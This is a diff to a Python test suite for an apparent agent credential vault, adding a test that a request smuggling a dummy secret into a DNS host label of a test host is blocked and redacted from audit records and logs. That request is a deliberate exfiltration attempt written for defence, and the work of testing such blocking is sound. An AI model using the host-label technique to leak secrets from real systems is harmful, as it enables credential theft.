@@ -25,6 +25,7 @@ from helpers.server import OWNER_EMAIL, OWNER_PASSWORD, ServerProc
 from helpers.upstream import TLSUpstream
 
 SECRET = 'sk-Exf1l+secret/"42"-value'
+LABEL_SECRET = "sk-label-secret-0042"
 RESOLVE = "other.upstream.test=127.0.0.1"
 
 
@@ -40,6 +41,7 @@ def srv(
 ) -> Iterator[ServerProc]:
     with ServerProc(tmp_path_factory.mktemp("exfil"), upstream_ca, env={"AGENT_VAULT_RESOLVE": RESOLVE}) as s:
         s.set_credential("API_TOKEN", SECRET)
+        s.set_credential("LABEL_KEY", LABEL_SECRET)  # unused by any service: may go nowhere
         s.add_service(
             {
                 "name": "local-api",
@@ -154,12 +156,6 @@ def test_blocks_are_counted_in_metrics(srv: ServerProc, up: TLSUpstream, client:
     assert 'kind="value"' in line and float(line.rsplit(" ", 1)[1]) >= 1
 
 
-def test_no_audit_record_holds_the_value(srv: ServerProc) -> None:
-    for rec in audit_records(srv.home):
-        dumped = json.dumps(rec)
-        assert SECRET not in dumped and quote(SECRET, safe="") not in dumped
-
-
 def test_vault_run_canary_is_refused_everywhere(srv: ServerProc, up: TLSUpstream) -> None:
     """`vault run --canary KEY`: the child sees a random canary in KEY; sending it anywhere (an
     unmatched host, or base64-encoded to the service host itself) is refused and named."""
@@ -180,3 +176,21 @@ def test_vault_run_canary_is_refused_everywhere(srv: ServerProc, up: TLSUpstream
     assert up.requests_seen.snapshot() == []
     bad = srv.cli("vault", "run", "--placeholder", "K_A", "--canary", "K_A", "--", "true", check=False)
     assert bad.returncode != 0 and "both --placeholder and --canary" in bad.stderr
+
+
+def test_a_value_in_a_host_label_is_refused_before_dns_and_scrubbed(
+    srv: ServerProc, up: TLSUpstream, client: httpx.Client
+) -> None:
+    r = client.get(f"https://{LABEL_SECRET}.other.upstream.test:{up.port}/echo/dns")
+    assert r.status_code == 403 and r.json()["error"] == "exfiltration_blocked"
+    assert r.json()["key"] == "LABEL_KEY" and LABEL_SECRET not in r.text
+    rec = wait_audit(srv.home, error="exfiltration_blocked", blocked_key="LABEL_KEY")
+    assert rec["host"] == "[REDACTED:LABEL_KEY].other.upstream.test" and LABEL_SECRET not in json.dumps(rec)
+
+
+def test_no_audit_record_holds_the_value(srv: ServerProc) -> None:
+    for rec in audit_records(srv.home):
+        dumped = json.dumps(rec)
+        assert SECRET not in dumped and quote(SECRET, safe="") not in dumped and LABEL_SECRET not in dumped
+    logs = srv.stderr_text()
+    assert SECRET not in logs and LABEL_SECRET not in logs and quote(SECRET, safe="") not in logs
